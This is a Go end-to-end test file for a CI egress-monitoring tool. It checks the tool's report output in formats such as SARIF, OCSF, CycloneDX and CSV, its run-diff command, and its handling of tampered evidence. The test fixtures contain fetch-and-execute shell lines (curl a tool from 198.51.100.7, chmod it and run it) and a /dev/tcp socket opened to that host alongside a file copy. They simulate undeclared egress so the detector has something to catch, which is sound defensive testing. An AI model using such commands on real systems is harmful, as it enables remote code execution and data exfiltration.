package e2e

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"html"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// reported is what `report` answers.
func reported(t *testing.T, in string, args ...string) (stdout, stderr string, code int) {
	t.Helper()
	cmd := exec.Command(binary, append([]string{"report"}, args...)...)
	cmd.Dir = in
	var out, said bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &said
	err := cmd.Run()
	var exit *exec.ExitError
	if err != nil && !errors.As(err, &exit) {
		t.Fatal(err)
	}
	return out.String(), said.String(), cmd.ProcessState.ExitCode()
}

var reportFormats = []string{"terminal", "markdown", "html", "sarif", "ocsf", "csv", "controls", "cyclonedx", "otlp"}

// fetching is a job that fetches a tool, runs it, and sends something to where
// its policy does not let it.
func fetching(t *testing.T, more string) *watched {
	t.Helper()
	need(t, "curl")
	ns, listen := netns(t)
	serve(t, listen("tcp4", "198.51.100.7:8080"), http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		fmt.Fprint(w, "#!/bin/sh\nexit 0\n")
	}))
	in := t.TempDir()
	place(t, filepath.Join(in, "posture.yml"), "version: 1\negress: [\"other.example.com:443\"]\n")
	place(t, filepath.Join(in, "ci.yml"), "on: push\njobs:\n  build:\n    runs-on: x\n    steps:\n      - id: setup\n        run: \"true\"\n      - id: fetch\n        run: curl x\n")
	w := run(t, options{in: in, flags: []string{"--intent", "posture.yml"}, env: []string{
		"GITHUB_ACTIONS=true", "GITHUB_ACTION=fetch", "GITHUB_JOB=build", "GITHUB_REPOSITORY=octo/app", "GITHUB_WORKFLOW=ci",
	}}, "ip", "netns", "exec", ns, "bash", "-c", "curl -sS -o tool http://198.51.100.7:8080/tool && chmod +x tool && ./tool; "+more)
	w.complete()
	return w
}

// Each format of a real run holds what the run did, and is the same bytes each
// time.
func TestEveryFormatTellsARealRun(t *testing.T) {
	const server = "198.51.100.7:8080"
	w := fetching(t, "exit 3")
	in := filepath.Dir(w.dir)
	execs := len(w.execs())
	decode := func(t *testing.T, text string, into any) {
		t.Helper()
		if err := json.Unmarshal([]byte(text), into); err != nil {
			t.Fatalf("%v in %.400s", err, text)
		}
	}
	holds := func(t *testing.T, text string, wants ...string) {
		t.Helper()
		for _, want := range wants {
			if !strings.Contains(text, want) {
				t.Errorf("%q is missing in\n%.3000s", want, text)
			}
		}
	}
	rows := func(t *testing.T, text string) []map[string]string {
		t.Helper()
		all, err := csv.NewReader(strings.NewReader(text)).ReadAll()
		if err != nil || len(all) < 2 {
			t.Fatalf("%d rows, %v", len(all), err)
		}
		var out []map[string]string
		for _, row := range all[1:] {
			m := map[string]string{}
			for i, name := range all[0] {
				m[name] = row[i]
			}
			out = append(out, m)
		}
		return out
	}
	for format, check := range map[string]func(t *testing.T, text string){
		"terminal": func(t *testing.T, text string) { holds(t, text, "edamame-posture: fail", server, "curl", "./tool") },
		"markdown": func(t *testing.T, text string) { holds(t, text, "### Posture: **fail**", "8080", "curl") },
		"html": func(t *testing.T, text string) {
			holds(t, text, "<!DOCTYPE html>", `http-equiv="Content-Security-Policy"`, server, "</html>")
		},
		"sarif": func(t *testing.T, text string) {
			var doc struct {
				Version string
				Runs    []struct {
					Results []struct {
						RuleID    string
						Locations []struct {
							PhysicalLocation struct {
								ArtifactLocation struct{ URI string }
								Region           struct{ StartLine int }
							}
						}
					}
				}
			}
			at := func(text string) (place string) {
				decode(t, text, &doc)
				if doc.Version != "2.1.0" || len(doc.Runs) != 1 {
					t.Fatalf("version %q, %d runs", doc.Version, len(doc.Runs))
				}
				for _, r := range doc.Runs[0].Results {
					if r.RuleID == "undeclared-connect" {
						p := r.Locations[0].PhysicalLocation
						place = fmt.Sprint(p.ArtifactLocation.URI, ":", p.Region.StartLine)
					}
				}
				return place
			}
			if got := at(text); got != "posture.yml:2" {
				t.Errorf("the connection stands at %q", got)
			}
			text, said, code := reported(t, in, "--format", "sarif", "--workflow", "ci.yml", w.dir)
			if got := at(text); code != 0 || got != "ci.yml:8" {
				t.Errorf("with the workflow: exit code %d, the connection stands at %q: %s", code, got, said)
			}
		},
		"ocsf": func(t *testing.T, text string) {
			classes, launched, last := map[int]int{}, 0, -1
			for line := range strings.Lines(text) {
				var o struct {
					Class    int `json:"class_uid"`
					Activity int `json:"activity_id"`
				}
				decode(t, line, &o)
				classes[o.Class]++
				if last = o.Class; o.Class == 1007 && o.Activity == 1 {
					launched++
				}
			}
			if launched < execs || classes[4001] == 0 || classes[1001] == 0 || last != 0 {
				t.Errorf("%d launches of %d programs, classes %v, the last is %d", launched, execs, classes, last)
			}
		},
		"csv": func(t *testing.T, text string) {
			for _, r := range rows(t, text) {
				if r["verb"] == "connect" && r["object"] == server && r["standing"] == "undeclared" {
					return
				}
			}
			t.Errorf("no row of the connection in\n%s", text)
		},
		"controls": func(t *testing.T, text string) {
			r := rows(t, text)
			if len(r) != 1 || r[0]["repo"] != "octo/app" || r[0]["workflow"] != "ci" || r[0]["lastVerdict"] != "fail" || r[0]["intentPresent"] != "true" ||
				r[0]["coveragePct"] != "100" || r[0]["maxDivergence30d"] != fmt.Sprint(w.verdict.Score) || !strings.Contains(r[0]["soc2"], "CC7.2") {
				t.Errorf("the row is %v", r)
			}
		},
		"cyclonedx": func(t *testing.T, text string) {
			var doc struct {
				BOMFormat, SpecVersion string
				Components             []struct {
					Name       string
					Properties []struct{ Name, Value string }
				}
				Services []struct{ Name string }
			}
			decode(t, text, &doc)
			if doc.BOMFormat != "CycloneDX" || doc.SpecVersion != "1.6" || len(doc.Services) != 1 || doc.Services[0].Name != server {
				t.Errorf("%s %s, services %+v", doc.BOMFormat, doc.SpecVersion, doc.Services)
			}
			for _, c := range doc.Components {
				if !strings.HasSuffix(c.Name, "tool") {
					continue
				}
				for _, p := range c.Properties {
					if p.Name == "posture:writer-received-from" && strings.Contains(p.Value, "198.51.100.7") {
						return
					}
				}
			}
			t.Errorf("no component of the tool, with where it came from: %+v", doc.Components)
		},
		"otlp": func(t *testing.T, text string) {
			var doc struct {
				ResourceSpans []struct {
					ScopeSpans []struct {
						Spans []struct{ SpanID, ParentSpanID, Name string }
					}
				}
			}
			decode(t, text, &doc)
			spans := doc.ResourceSpans[0].ScopeSpans[0].Spans
			ids := map[string]bool{}
			for i, s := range spans {
				if (i > 0) != ids[s.ParentSpanID] {
					t.Errorf("the parent of span %d, %s, does not stand before it", i, s.Name)
				}
				ids[s.SpanID] = true
			}
			if len(spans) < execs+1 {
				t.Errorf("%d spans of %d programs", len(spans), execs)
			}
		},
	} {
		t.Run(format, func(t *testing.T) {
			text, said, code := reported(t, in, "--format", format, w.dir)
			if code != 0 || said != "" {
				t.Fatalf("exit code %d, stderr %q", code, said)
			}
			check(t, text)
			if again, _, _ := reported(t, in, "--format", format, w.dir); again != text {
				t.Error("a second time it is other bytes")
			}
		})
	}
	for name, args := range map[string][]string{
		strings.Join(reportFormats, ", "):   {"--format", "yaml", w.dir},
		"only controls takes more":          {"--format", "csv", w.dir, w.dir},
		"--workflow is for --format sarif":  {"--format", "csv", "--workflow", "ci.yml", w.dir},
		`posture.yml:1:1: no "jobs"`:        {"--format", "sarif", "--workflow", "posture.yml", w.dir},
		"none.yml: no such file":            {"--format", "sarif", "--workflow", "none.yml", w.dir},
		"requires at least 1 arg(s), only ": {},
	} {
		if out, said, code := reported(t, in, args...); code != 2 || out != "" || !strings.Contains(said, name) {
			t.Errorf("report %q: exit code %d, stdout %.100q, stderr %q; want %q", args, code, out, said, name)
		}
	}
}

func TestReportDiffTellsWhatOneRunDidAndTheOtherDidNot(t *testing.T) {
	a, b := fetching(t, "true"), fetching(t, "exec 3<>/dev/tcp/198.51.100.7/8081; cp posture.yml /var/tmp/posture-difference; rm /var/tmp/posture-difference")
	diff := func(args ...string) (string, string, int) {
		t.Helper()
		return reported(t, "", append([]string{"diff"}, args...)...)
	}
	if out, said, code := diff(a.dir, a.dir); code != 0 || said != "" || !strings.Contains(out, "same") {
		t.Errorf("a run and itself: exit code %d\n%s%s", code, out, said)
	}
	for _, format := range []string{"terminal", "markdown"} {
		if out, said, code := diff("--format", format, a.dir, b.dir); code != 1 || said != "" || !strings.Contains(html.UnescapeString(out), "posture-difference") || strings.Contains(out, "8080") {
			t.Errorf("as %s: exit code %d\n%s%s", format, code, out, said)
		}
	}
	out, said, code := diff("--format", "json", a.dir, b.dir)
	var c struct {
		Same bool
		A, B struct {
			Verdict string
			Facts   []struct{ Verb, Object, Standing string }
		}
	}
	if err := json.Unmarshal([]byte(out), &c); err != nil || code != 1 || c.Same || c.A.Verdict != "fail" {
		t.Fatalf("as JSON: exit code %d, %v\n%s%s", code, err, out, said)
	}
	if len(c.A.Facts) > 0 {
		t.Errorf("the first run did nothing that the second did not, and %+v is told", c.A.Facts)
	}
	for _, want := range []string{"write /var/tmp/posture-difference", "delete /var/tmp/posture-difference"} {
		if !slices.ContainsFunc(c.B.Facts, func(f struct{ Verb, Object, Standing string }) bool { return f.Verb+" "+f.Object == want }) {
			t.Errorf("%q is not told: %+v", want, c.B.Facts)
		}
	}
	for _, args := range [][]string{{a.dir, filepath.Join(a.dir, "nowhere")}, {"--format", "csv", a.dir, b.dir}, {a.dir}} {
		if out, said, code := diff(args...); code != 2 || out != "" || said == "" {
			t.Errorf("diff %q: exit code %d, %q, %q", args, code, out, said)
		}
	}
}

// Who reads damaged evidence is told what is wrong with it, in one line, and
// gets nothing that looks like a report.
func TestAReportOfDamagedEvidenceSaysWhatIsWrong(t *testing.T) {
	in := t.TempDir()
	place(t, filepath.Join(in, "posture.yml"), "version: 1\negress: []\n")
	w := run(t, options{in: in, flags: []string{"--intent", "posture.yml"}}, "sh", "-c", "echo made > out.txt; /bin/true")
	w.complete()
	const segment = "evidence/000000.jsonl.zst"
	change := func(name string, f func([]byte) []byte) func(string) error {
		return func(dir string) error {
			b, err := os.ReadFile(filepath.Join(dir, name))
			if err != nil {
				return err
			}
			return os.WriteFile(filepath.Join(dir, name), f(b), 0o644)
		}
	}
	for name, c := range map[string]struct {
		damage func(dir string) error
		want   []string
	}{
		"no folder":     {os.RemoveAll, []string{"no folder of results"}},
		"nothing in it": {func(dir string) error { return errors.Join(os.RemoveAll(dir), os.Mkdir(dir, 0o755)) }, []string{"no folder of results"}},
		"a file":        {func(dir string) error { return errors.Join(os.RemoveAll(dir), os.WriteFile(dir, nil, 0o644)) }, []string{"no folder of results"}},
		"a changed byte": {change(segment, func(b []byte) []byte {
			b[len(b)/2] ^= 1
			return b
		}), []string{"000000.jsonl.zst: SHA-256 is", "not as it was written", "verify"}},
		"the end cut off":     {change(segment, func(b []byte) []byte { return b[:len(b)-7] }), []string{"000000.jsonl.zst: ", "the manifest says", "verify"}},
		"a log that is gone":  {func(dir string) error { return os.Remove(filepath.Join(dir, segment)) }, []string{"000000.jsonl.zst", "verify"}},
		"another intent":      {change("evidence/inputs/intent.json", func(b []byte) []byte { return append(b, ' ') }), []string{"inputs/intent.json", "verify"}},
		"a manifest of noise": {change("evidence/manifest.json", func([]byte) []byte { return []byte("{\n") }), []string{"manifest.json", "verify"}},
	} {
		t.Run(name, func(t *testing.T) {
			dir := filepath.Join(t.TempDir(), "results")
			if err := errors.Join(os.CopyFS(dir, os.DirFS(w.dir)), c.damage(dir)); err != nil {
				t.Fatal(err)
			}
			ask := func(args ...string) {
				t.Helper()
				out, said, code := reported(t, "", args...)
				if code != 2 || out != "" || strings.Count(said, "\n") != 1 || !strings.Contains(said, dir) {
					t.Errorf("report %q: exit code %d, stdout %.100q, stderr %q", args[:len(args)-1], code, out, said)
				}
				for _, want := range c.want {
					if !strings.Contains(said, want) {
						t.Errorf("report %q: it does not say %q: %s", args[:len(args)-1], want, said)
					}
				}
			}
			for _, format := range reportFormats {
				ask("--format", format, dir)
			}
			ask("diff", w.dir, dir)
		})
	}
	// A log that was never closed is what a monitor leaves that died: it is
	// read, and said to be a part.
	dir := filepath.Join(t.TempDir(), "results")
	if err := errors.Join(os.CopyFS(dir, os.DirFS(w.dir)), os.Remove(filepath.Join(dir, "evidence/manifest.json"))); err != nil {
		t.Fatal(err)
	}
	for format, want := range map[string]string{"terminal": "of the evidence: manifest.json is missing", "markdown": "Of the evidence: manifest", "html": "manifest.json is missing"} {
		if out, said, code := reported(t, "", "--format", format, dir); code != 0 || said != "" || !strings.Contains(out, want) {
			t.Errorf("%s of a log that was not closed: exit code %d, stderr %q\n%.2000s", format, code, said, out)
		}
	}
}
